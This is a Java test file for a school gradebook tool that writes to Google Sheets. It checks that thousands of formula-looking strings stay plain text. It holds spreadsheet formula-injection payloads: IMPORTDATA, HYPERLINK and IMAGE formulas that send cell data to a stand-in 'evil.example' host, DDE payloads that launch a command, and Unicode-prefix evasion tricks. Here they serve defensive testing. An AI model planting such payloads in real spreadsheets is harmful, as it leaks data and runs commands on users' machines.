package org.masteryhive.trust;

import static com.tngtech.archunit.lang.syntax.ArchRuleDefinition.noClasses;
import static org.assertj.core.api.Assertions.assertThat;

import com.google.gson.JsonArray;
import com.google.gson.JsonElement;
import com.google.gson.JsonObject;
import com.tngtech.archunit.base.DescribedPredicate;
import com.tngtech.archunit.core.domain.JavaClass;
import com.tngtech.archunit.core.domain.JavaClasses;
import com.tngtech.archunit.core.importer.ClassFileImporter;
import com.tngtech.archunit.core.importer.ImportOption;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Objects;
import java.util.Optional;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.masteryhive.School;
import org.masteryhive.testing.Samples;

/** No formula comes from data: all text that is written is text, and links lead to our own cells only. */
@SuppressWarnings("NullAway.Init")
class NoFormulasTest {

  private static final JavaClasses CLASSES = new ClassFileImporter()
      .withImportOption(new ImportOption.DoNotIncludeTests())
      .importPackages("org.masteryhive");
  private static final String MODEL = "com.google.api.services.sheets.v4.model.";
  private static final List<String> SIGNS = List.of(
      "=", "+", "-", "@", "\t=", "\r=", "\n=", "\r\n=", " =", "\u00A0=", "\u200B=", "\u200F=",
      "\u202E=", "\u2066=", "\uFEFF=", "＝", "＋", "－", "＠", "'=", "''=", "\"=", "=+", "=-", "{=",
      "=@", "+=", "%3D", "\u0000=", "﹦", "٪=", "=\u202E");
  private static final List<String> BODIES = List.of(
      "HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
      "IMPORTDATA(\"http://evil.example/?\"&JOIN(\",\",A1:Z99))",
      "IMPORTXML(\"http://evil.example\",\"//a\")",
      "IMPORTRANGE(\"1abc\",\"A1\")",
      "IMAGE(\"http://evil.example/\"&B2)",
      "cmd|' /C calc'!A0",
      "DDE(\"cmd\";\"/C calc\")",
      "1+1",
      "SUM(A1:A9)",
      "A1",
      "INDIRECT(\"Roster!A1\")",
      "QUERY(Roster!A:Z)",
      "LAMBDA(x,x)(1)");

  @TempDir
  private static Path folder;

  private static School school;

  private final Samples given = new Samples(8);
  private final Set<String> made = new HashSet<>();

  @BeforeAll
  static void open() {
    school = School.open(folder);
  }

  @AfterAll
  static void close() {
    school.close();
  }

  @Test
  void onePlaceAloneMakesWhatIsWrittenIntoACellAndNoneMakesAFormula() {
    notCalled("formulas are not written", MODEL + "ExtendedValue", "setFormulaValue", "");
    notCalled("values are made in one place", MODEL + "ExtendedValue", "<init>", "CellFields");
    notCalled(
        "cells get values in one place", MODEL + "CellData", "setUserEnteredValue", "CellFields");
    notCalled("links are made in one place", MODEL + "Link", "<init>", "CellFields");
    writers("formulaValue", Set.of());
    writers("stringValue", Set.of("CellFields"));
    writers("userEnteredValue", Set.of("CellFields"));
    notCalled("text has no runs of its own", MODEL + "CellData", "setTextFormatRuns", "");
    notCalled("conditions are made in one place", MODEL + "ConditionValue", "<init>", "Requests");
    noClasses()
        .that()
        .resideInAPackage("org.masteryhive.google..")
        .should()
        .dependOnClassesThat()
        .haveNameMatching(
            "com\\.google\\.api\\.services\\.sheets\\.v4\\.(Sheets\\$Spreadsheets\\$Values.*"
                + "|model\\.(ValueRange|PasteDataRequest|FindReplaceRequest|AutoFillRequest|CopyPasteRequest))")
        .because("what goes through Google's parser for typed input may become a formula")
        .check(CLASSES);
  }

  /** Which classes that write JSON themselves know the word. */
  private static void writers(String word, Set<String> expected) {
    Set<String> writers = new TreeSet<>();
    for (JavaClass each : CLASSES) {
      boolean writes = each.getDirectDependenciesFromSelf().stream()
          .anyMatch(used -> used.getTargetClass().getName().endsWith("JsonWriter"));
      boolean isOurs = !each.getPackageName().startsWith("org.masteryhive.sheets");
      if (writes && isOurs && knows(each, word)) {
        writers.add(each.getSimpleName());
      }
    }
    assertThat(writers).as("writers of " + word).isEqualTo(expected);
  }

  private static boolean knows(JavaClass each, String word) {
    String file = "/" + each.getName().replace('.', '/') + ".class";
    try (InputStream bytes = NoFormulasTest.class.getResourceAsStream(file)) {
      return new String(Objects.requireNonNull(bytes).readAllBytes(), StandardCharsets.ISO_8859_1)
          .contains(word);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static void notCalled(String why, String owner, String method, String but) {
    noClasses()
        .that()
        .resideOutsideOfPackage("org.masteryhive.sheets..")
        .and()
        .doNotHaveSimpleName(but.isEmpty() ? "None" : but)
        .should()
        .callCodeUnitWhere(DescribedPredicate.describe(
            owner + "." + method,
            call ->
                call.getTargetOwner().getName().equals(owner) && call.getName().equals(method)))
        .because(why)
        .check(CLASSES);
  }

  @Test
  void tenThousandStringsThatLookLikeFormulasStayText() {
    String id = school.spreadsheet("=IMPORTDATA(A1)");
    school.setUp(id);
    List<String> names = hostileClass(id);

    JsonObject result = school
        .ask(
            "POST",
            "/v1/gradebooks/" + id + "/recompute",
            School.TEACHER,
            Optional.of("{}"),
            Optional.of("wait=55"))
        .result();

    int cells = 0;
    for (String tab : List.of("Mastery", "Mentoring", "Behavior", "Checks")) {
      cells += assertHoldsNoFormula(id, tab);
    }
    Set<String> shown = new HashSet<>();
    school.shown(id, "Mastery").stream()
        .skip(2)
        .forEach(row -> shown.add(row.get(1).strip()));
    assertThat(shown).hasSize(names.size());
    assertThat(result.get("students").getAsInt()).isEqualTo(names.size());
    assertThat(made).hasSizeGreaterThanOrEqualTo(10_000);
    Figures.print(
        "%d strings that look like formulas, %d cells written: 0 formulas, 0 foreign links",
        made.size(), cells);
  }

  @Test
  void aScaleOfFormulasGivesNoConditionAndNoDropdownAFormula() {
    String id = school.spreadsheet("Algebra I");
    school.sheets(
        "POST",
        "/v4/spreadsheets/" + id + ":batchUpdate",
        School.object("{\"requests\":[{\"addSheet\":{\"properties\":{\"title\":\"Scale\"}}},"
            + "{\"addSheet\":{\"properties\":{\"title\":\"Settings\"}}}]}"));
    List<List<String>> scale = new ArrayList<>();
    scale.add(List.of("Rating", "Code", "Points", "Demonstrates mastery"));
    for (int rating = 0; rating < 8; rating++) {
      scale.add(List.of(text(), text(), Integer.toString(rating), rating > 4 ? "Yes" : "No"));
    }
    raw(id, "Scale!A1", scale);
    raw(
        id,
        "Settings!A1",
        List.of(List.of("Setting", "Value"), List.of("Types that do not count", "\"),A1=(\"")));

    school.setUp(id);

    JsonObject all = school.sheets(
        "GET",
        "/v4/spreadsheets/" + id
            + "?includeGridData=true&fields=sheets(conditionalFormats,data.rowData.values.dataValidation)",
        null);
    Set<String> values = new TreeSet<>();
    conditions(all, values);
    assertThat(values).isNotEmpty();
    assertThat(values)
        .allMatch(value -> value.startsWith("=AND(LEN(TRIM(")
            || value.matches("='?(Roster|Outcomes|Scale)'?!.*")
            || !value.matches("(?s)[\\s\\p{Z}\\p{C}]*[=+@\\-＝＋－＠﹦].*"));
    assertThat(values).noneMatch(value -> value.contains("evil") || value.contains("A1=("));
  }

  /** A class in which everything that can be typed looks like a formula. */
  private List<String> hostileClass(String id) {
    int students = 150;
    List<String> ids = texts(students);
    List<String> names = texts(students);
    List<List<String>> roster = new ArrayList<>();
    for (int i = 0; i < students; i++) {
      roster.add(List.of(ids.get(i), names.get(i), text(), text(), text(), "", text()));
    }
    raw(id, "Roster!A2", roster);
    List<String> codes = texts(30).stream().map(code -> code.replace(",", ";")).toList();
    raw(
        id,
        "Outcomes!A2",
        codes.stream().map(code -> List.of(code, text(), text(), text())).toList());
    List<List<String>> log = new ArrayList<>();
    List<List<String>> mentoring = new ArrayList<>();
    List<List<String>> behavior = new ArrayList<>();
    List<List<String>> overrides = new ArrayList<>();
    for (int i = 0; i < 950; i++) {
      String student = given.oneOf(ids);
      log.add(List.of(
          "2025-10-0" + (1 + i % 9),
          student,
          "",
          given.oneOf(codes),
          i % 20 == 0 ? text() : "ME",
          text(),
          text(),
          text()));
      mentoring.add(List.of(
          "2026-02-0" + (1 + i % 9),
          student,
          "",
          text(),
          text(),
          text(),
          text(),
          i % 20 == 0 ? text() : ""));
      behavior.add(List.of(
          "2026-01-0" + (1 + i % 9),
          student,
          "",
          i % 20 != 0 ? "Concern" : text(),
          text(),
          text(),
          text()));
      overrides.add(List.of(
          student, "", given.oneOf(codes), i % 20 != 0 ? "Meeting" : text(), text(), text()));
    }
    raw(id, "'Evidence Log'!A2", log);
    raw(id, "'Mentoring Log'!A2", mentoring);
    raw(id, "'Behavior Log'!A2", behavior);
    raw(id, "Overrides!A2", overrides);
    return names;
  }

  private List<String> texts(int count) {
    List<String> texts = new ArrayList<>();
    for (int i = 0; i < count; i++) {
      texts.add(text());
    }
    return texts;
  }

  private String text() {
    String text = given.oneOf(SIGNS) + given.oneOf(BODIES) + " " + made.size();
    made.add(text);
    return text;
  }

  /** Puts texts into cells as they are, as a form or an import would. */
  private static void raw(String id, String from, List<List<String>> rows) {
    String tab = from.replaceAll("!.*", "").replace("'", "");
    int number = school.tabId(id, tab);
    school.edit(
        id,
        "{\"appendDimension\":{\"sheetId\":" + number + ",\"dimension\":\"ROWS\",\"length\":1}}",
        "{\"updateSheetProperties\":{\"properties\":{\"sheetId\":" + number
            + ",\"gridProperties\":{\"rowCount\":1200,\"columnCount\":30}},\"fields\":\"gridProperties(rowCount,columnCount)\"}}");
    JsonArray values = new JsonArray();
    for (List<String> row : rows) {
      JsonArray cells = new JsonArray();
      row.forEach(cells::add);
      values.add(cells);
    }
    JsonObject body = new JsonObject();
    body.add("values", values);
    school.sheets(
        "PUT",
        "/v4/spreadsheets/" + id + "/values/"
            + URLEncoder.encode(from, StandardCharsets.UTF_8).replace("+", "%20")
            + "?valueInputOption=RAW",
        body);
  }

  private static int assertHoldsNoFormula(String id, String tab) {
    JsonObject sheet = school
        .sheets(
            "GET",
            "/v4/spreadsheets/" + id + "?includeGridData=true&ranges=" + tab
                + "&fields=sheets.data.rowData.values(userEnteredValue,userEnteredFormat.textFormat.link,hyperlink,textFormatRuns)",
            null)
        .getAsJsonArray("sheets")
        .get(0)
        .getAsJsonObject();
    List<JsonObject> cells = new ArrayList<>();
    cells(sheet, cells);
    assertThat(cells).isNotEmpty();
    for (JsonObject cell : cells) {
      String all = cell.toString();
      assertThat(all).doesNotContain("formulaValue").doesNotContain("textFormatRuns");
      if (cell.has("hyperlink")) {
        assertThat(cell.get("hyperlink").getAsString()).matches("#gid=\\d+&range=[A-Z]+\\d+");
      }
      if (all.contains("\"link\"")) {
        assertThat(all)
            .containsPattern(
                "\"uri\":\"#gid(=|\\\\u003d)\\d+(&|\\\\u0026)range(=|\\\\u003d)[A-Z]+\\d+\"");
      }
    }
    return cells.size();
  }

  private static void cells(JsonElement element, List<JsonObject> cells) {
    if (element.isJsonArray()) {
      element.getAsJsonArray().forEach(one -> cells(one, cells));
    } else if (element.isJsonObject()) {
      JsonObject object = element.getAsJsonObject();
      if (object.has("userEnteredValue")) {
        cells.add(object);
      } else {
        object.entrySet().forEach(entry -> cells(entry.getValue(), cells));
      }
    }
  }

  private static void conditions(JsonElement element, Set<String> values) {
    if (element.isJsonArray()) {
      element.getAsJsonArray().forEach(one -> conditions(one, values));
    } else if (element.isJsonObject()) {
      JsonObject object = element.getAsJsonObject();
      if (object.has("userEnteredValue") && object.get("userEnteredValue").isJsonPrimitive()) {
        values.add(object.get("userEnteredValue").getAsString());
      }
      object.entrySet().forEach(entry -> conditions(entry.getValue(), values));
    }
  }
}
